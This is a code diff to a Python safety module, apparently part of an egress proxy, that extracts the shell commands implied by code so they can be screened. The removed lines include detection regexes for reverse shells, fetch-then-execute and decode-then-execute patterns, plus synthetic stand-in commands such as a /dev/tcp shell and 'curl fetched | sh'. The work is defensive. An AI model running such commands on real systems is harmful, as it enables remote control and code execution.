@@ -5,6 +5,7 @@ foreign_calls.py (names), foreign_tokens.py (text to tokens), execution.py (who 
 """
 
 import re
+from bisect import bisect_left
 from collections.abc import Callable, Iterator, Sequence
 
 from egress_proxy.safety.editor_commands import bang_texts
@@ -20,32 +21,23 @@ from egress_proxy.safety.foreign_calls import (
     UNLINKERS,
     WRITERS,
 )
+from egress_proxy.safety.foreign_loops import MAX_PAIRS, loop_values
+from egress_proxy.safety.foreign_signs import named_plainly, signs
 from egress_proxy.safety.foreign_tokens import MAX_TOKENS, Kind, Token, tokens_of
 from egress_proxy.safety.make_rules import MAX_LINES, recipes, scheduled
 
 _MAX_FOUND = 64
 _MAX_ARGUMENT_TOKENS = 64
 _MAX_READ = 6_000  # tokens, of all calls together
+_MAX_VALUE = 1_000  # characters of a variable
+_READ_PER_CALL = 4  # what it costs to see which loop a call is in
 _MAX_LEVELS = 3  # a text in a text: exec("exec(…)")
 _COMMANDS = {"args", "argv", "command", "cmd"}  # keywords whose value is part of a command
+_TOLD = CALLS | REMOVERS | UNLINKERS | WRITERS | FOLDERS
 _STATEMENT_ENDS = {"if", "unless", "or", "and", "while", "for", "do", "end"}
 
-_RUNS = re.compile(r"\b(?:exec|eval|system|run|compile|popen|check_output|getoutput)\b")
-_FETCHES = re.compile(
-    r"urlopen|requests\.get|urlretrieve|http\.get|fetch\(|open-uri|\bLWP\b|file_get_contents\(\s?.https?:|URI\.open|Net::HTTP"
-)
-_FETCHERS = re.compile(r"(?:popen|check_output|getoutput|run)\(.{0,80}?\b(?:curl|wget)\b", re.DOTALL)
-_EVALUATES = re.compile(r"\b(?:exec|eval)\(")
-_CONNECTS = re.compile(
-    r"\bsocket\b|fsockopen|TCPSocket|IO::Socket|Socket::INET|net\.connect|net\.Socket|connect\("
-)
-_SHELLS = re.compile(r"/bin/(?:ba|z|da|k)?sh|\bdup2\b|pty\.spawn|cmd\.exe|[\"'](?:ba)?sh[\"']")
 _SPAWN = re.compile(r"(?:^|[\s;\[{])(?:spawn|exec|system)\s+([^;\n\]}]{1,1000})")
 _SCRIPT = re.compile(r"do shell script\s+\"((?:[^\"\\]|\\.)*)(?:\"|\Z)([^\n]{0,80})")
-_DECODES = re.compile(
-    r"b64decode|fromhex|unhexlify|\batob\b|decode64|decode_base64|base64_decode|[\"']base64[\"']"
-)
-_EXECUTES = re.compile(r"\b(?:system|exec\w*|eval|popen|subprocess|spawn\w*|child_process)\b")
 
 
 def shell_texts(code: str, language: str, give_up: Callable[[], None] = lambda: None) -> Iterator[str]:
@@ -54,11 +46,14 @@ def shell_texts(code: str, language: str, give_up: Callable[[], None] = lambda: 
     ``give_up`` is called where not all of the code is read."""
     if code.count("\n") > MAX_LINES:
         give_up()
-    for number, text in enumerate(_texts(code, language, give_up)):
-        if number >= _MAX_FOUND:
+    found: set[str] = set()
+    for text in _texts(code, language, give_up):
+        if len(found) >= _MAX_FOUND:
             give_up()
             return
-        yield text
+        if text not in found:
+            yield text
+        found.add(text)
 
 
 def _texts(code: str, language: str, give_up: Callable[[], None]) -> Iterator[str]:
@@ -72,30 +67,24 @@ def _texts(code: str, language: str, give_up: Callable[[], None]) -> Iterator[st
         case "vim":
             yield from bang_texts(code)
             yield from _Code(code, language, give_up).found()
+        case "any":  # a shell's text, or another language's
+            yield code
+            yield from _Code(code, language, give_up).found()
         case _:
             yield from _Code(code, language, give_up).found()
 
 
-def runs_decoded(code: str) -> bool:
-    """It takes an encoding off a text and runs texts."""
-    return _DECODES.search(code) is not None and _EXECUTES.search(code) is not None
-
-
-def _then(first: re.Pattern[str], second: re.Pattern[str], code: str) -> bool:
-    """As `first.*second`, in linear time."""
-    found = first.search(code)
-    return found is not None and second.search(code, found.end()) is not None
-
-
 class _Code:
     def __init__(self, code: str, language: str, give_up: Callable[[], None], level: int = 0) -> None:
-        self._code = code
+        self._code = code = named_plainly(code)
         self._language = language
         self._give_up = give_up
         self._level = level
         self._tokens = tokens_of(code, language)
         self._values: dict[str, str] = {}
         self._aliases: dict[str, str] = {}
+        self._recursive = [at for at, token in enumerate(self._tokens) if token.text.endswith("recursive")]
+        self._files: list[str] | None = None  # looked for once
         self._read = 0
 
     def found(self) -> Iterator[str]:
@@ -103,14 +92,13 @@ class _Code:
             yield from (found[1] for found in _SPAWN.finditer(self._code))
         for found in _SCRIPT.finditer(self._code):
             yield ("sudo " if "administrator" in found[2] else "") + found[1]
-        if _then(_CONNECTS, _SHELLS, self._code):
-            yield "sh -i > /dev/tcp/elsewhere/1"
-        if (
-            _then(_RUNS, _FETCHES, self._code)
-            or _then(_FETCHES, _EVALUATES, self._code)
-            or _FETCHERS.search(self._code)
-        ):
-            yield "curl fetched | sh"
+        yield from signs(self._code)
+        yield from self._told_in_order()
+        yield from self._told_in_loops()
+        if self._read >= _MAX_READ or len(self._tokens) >= MAX_TOKENS:
+            self._give_up()
+
+    def _told_in_order(self) -> Iterator[str]:
         for at, token in enumerate(self._tokens):
             match token.kind:
                 case Kind.SHELL:
@@ -121,8 +109,20 @@ class _Code:
                     yield from self._written(at, token)
                 case _:
                     pass
-        if self._read >= _MAX_READ or len(self._tokens) >= MAX_TOKENS:
+
+    def _told_in_loops(self) -> Iterator[str]:
+        pairs = loop_values(self._tokens)
+        if len(pairs) > MAX_PAIRS:
             self._give_up()
+        calls = [at for at, token in enumerate(self._tokens) if pairs and token.last in _TOLD]
+        for name, text in pairs[:MAX_PAIRS]:
+            self._values[name] = text[:_MAX_VALUE]
+            for at in calls:
+                self._read += _READ_PER_CALL
+                if self._read >= _MAX_READ:
+                    return
+                if any(name in token.text for token in self._tokens[at : at + _MAX_ARGUMENT_TOKENS]):
+                    yield from self._named(at, self._tokens[at])
 
     def _token(self, at: int) -> Token:
         return self._tokens[at] if 0 <= at < len(self._tokens) else Token(Kind.MARK, "")
@@ -133,6 +133,8 @@ class _Code:
             self._bound(name, at + 2)
         if following.text in ("=", "as"):
             return
+        if following.text == "|" and self._token(at + 2).text == "getline":  # awk
+            yield self._values.get(name, "")
         is_lisp = self._language == "emacs"
         if token.text.endswith(".execute") and token.text != "os.execute":  # a data base's cursor
             return
@@ -144,7 +146,7 @@ class _Code:
         elif name in REMOVERS or (is_lisp and name in LISP_REMOVERS):
             yield from self._removed("-rf", self._texts(at))
         elif name in UNLINKERS:
-            is_deep = any(self._token(index).last == "recursive" for index in range(at, at + 24))
+            is_deep = bisect_left(self._recursive, at) < bisect_left(self._recursive, at + 24)
             is_deep = is_deep or self._language == "vim"
             yield from self._removed("-rf" if is_deep else "-f", self._texts(at))
         elif name in WRITERS:
@@ -160,7 +162,7 @@ class _Code:
                 self._aliases[name] = value.last
         elif mark == "=" and value.kind is Kind.STRING:
             texts = self._gathered(at, is_open=False)
-            self._values[name] = texts[0][:1000] if texts else ""
+            self._values[name] = texts[0][:_MAX_VALUE] if texts else ""
 
     def _texts(self, at: int) -> list[str]:
         """What a call is given; else what it is a method of: `Path("x").unlink()`."""
@@ -211,7 +213,9 @@ class _Code:
             yield from _Code(texts[0], self._language, self._give_up, self._level + 1).found()
 
     def _removed(self, flags: str, texts: Sequence[str]) -> Iterator[str]:
-        texts = texts or self._found_files()
+        if not texts:
+            self._files = self._found_files() if self._files is None else self._files
+            texts = self._files
         if texts:
             yield " ".join(["rm", flags, *map(_shell_quoted, texts)])
 
@@ -236,7 +240,7 @@ class _Code:
             if token.last in FINDERS and self._token(at + 1).text == "(":
                 texts = self._gathered(at + 2, is_open=True)
                 found += [text if "*" in text else f"{text.rstrip('/')}/*" for text in texts[:1]]
-        return found
+        return found[:_MAX_FOUND]
 
     def _written(self, at: int, token: Token) -> Iterator[str]:
         """awk: `print … | "sh"`, `print > "file"`, `"command" | getline`."""
